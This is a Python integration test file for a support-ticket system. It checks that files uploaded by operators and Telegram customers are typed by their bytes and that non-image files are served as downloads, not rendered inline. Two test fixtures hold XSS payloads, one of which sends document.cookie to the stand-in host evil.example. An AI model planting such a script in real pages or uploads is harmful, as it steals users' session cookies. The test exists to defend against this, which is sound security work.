"""Uploaded files are served for what their bytes are, never as a page on the S3 origin: an operator's
reply file and a customer's file from Telegram, fetched through the presigned URL from the real S3 engine.
Only real pictures are photos and are shown inline; anything else is a download (`Content-Disposition:
attachment`) with a passive content type."""

from __future__ import annotations

import uuid
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest

from tests.e2e.conftest import Stack, open_stack
from tests.support.images import png
from tests.support.waiting import eventually

pytestmark = pytest.mark.integration

PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
NOT_A_PNG = b"<html><script>fetch('https://evil.example/?c=' + document.cookie)</script></html>"


@pytest.fixture
async def stack(engines: dict[str, str]) -> AsyncIterator[Stack]:
    async with open_stack(engines) as holder:
        yield holder


def chat() -> int:
    return 100_000 + uuid.uuid4().int % 800_000


async def fetch(url: str) -> httpx.Response:
    async with httpx.AsyncClient() as http:
        response = await http.get(url)
    assert response.status_code == 200, response.text
    return response


def assert_downloaded(response: httpx.Response, file_name: str) -> None:
    disposition = response.headers.get("content-disposition", "")
    assert disposition.startswith("attachment;"), f"served inline: {dict(response.headers)}"
    assert file_name in disposition
    content_type = response.headers["content-type"].split(";")[0]
    assert content_type == "application/octet-stream", f"served as {content_type}"


async def reply_with_file(
    stack: Stack, ticket_id: str, name: str, data: bytes, declared: str
) -> dict[str, Any]:
    sent = await stack.api.post(
        f"/api/v1/tickets/{ticket_id}/messages",
        files={"file": (name, data, declared)},
        headers=stack.admin.headers,
    )
    assert sent.status_code == 201, sent.text
    (attachment,) = sent.json()["attachments"]
    return dict(attachment)


async def test_operator_files_are_typed_by_their_bytes_and_only_pictures_served_inline(stack: Stack) -> None:
    chat_id = chat()
    await stack.customer_says(chat_id, "Пришлите, пожалуйста, инструкцию")
    ticket = await stack.ticket_of(chat_id)

    page = await reply_with_file(stack, ticket["id"], "page.html", PAGE, "text/html")
    assert (page["kind"], page["mime_type"]) == ("document", "text/html")
    assert_downloaded(await fetch(page["url"]), "page.html")

    fake = await reply_with_file(stack, ticket["id"], "screen.png", NOT_A_PNG, "image/png")
    assert fake["kind"] == "document", "bytes that are no picture must not be a photo"
    assert fake["mime_type"] != "image/png"
    fetched = await fetch(fake["url"])
    assert_downloaded(fetched, "screen.png")
    assert fetched.content == NOT_A_PNG

    picture = png(6, 6, (0, 90, 200))
    real = await reply_with_file(stack, ticket["id"], "схема.png", picture, "application/octet-stream")
    assert (real["kind"], real["mime_type"]) == ("photo", "image/png")
    shown = await fetch(real["url"])
    assert shown.headers["content-type"] == "image/png"
    assert not shown.headers.get("content-disposition", "inline").startswith("attachment")
    assert shown.content == picture

    # The console lists the stored message the same way.
    listed = [item for message in await stack.messages(ticket["id"]) for item in message["attachments"]]
    by_name = {item["file_name"]: item for item in listed}
    assert_downloaded(await fetch(by_name["page.html"]["url"]), "page.html")
    assert by_name["схема.png"]["kind"] == "photo"


async def test_customer_files_from_telegram_are_typed_by_their_bytes(stack: Stack) -> None:
    chat_id = chat()
    await stack.customer_sends_file(chat_id, "document", "invoice.html", PAGE, "text/html", "Вот счёт")
    await stack.customer_sends_file(chat_id, "document", "photo.png", NOT_A_PNG, "image/png", "")
    ticket = await stack.ticket_of(chat_id)

    files: dict[str, dict[str, Any]] = {}

    async def both_files() -> bool:
        listed = await stack.messages(ticket["id"])
        files.update({item["file_name"]: item for message in listed for item in message["attachments"]})
        return len(files) >= 2

    await eventually(both_files, timeout_s=20, what="both customer files stored")
    page, fake = files["invoice.html"], files["photo.png"]
    assert page["mime_type"] == "text/html"
    assert_downloaded(await fetch(page["url"]), "invoice.html")
    assert fake["mime_type"] != "image/png", "Telegram's declared type is only a claim"
    assert_downloaded(await fetch(fake["url"]), "photo.png")
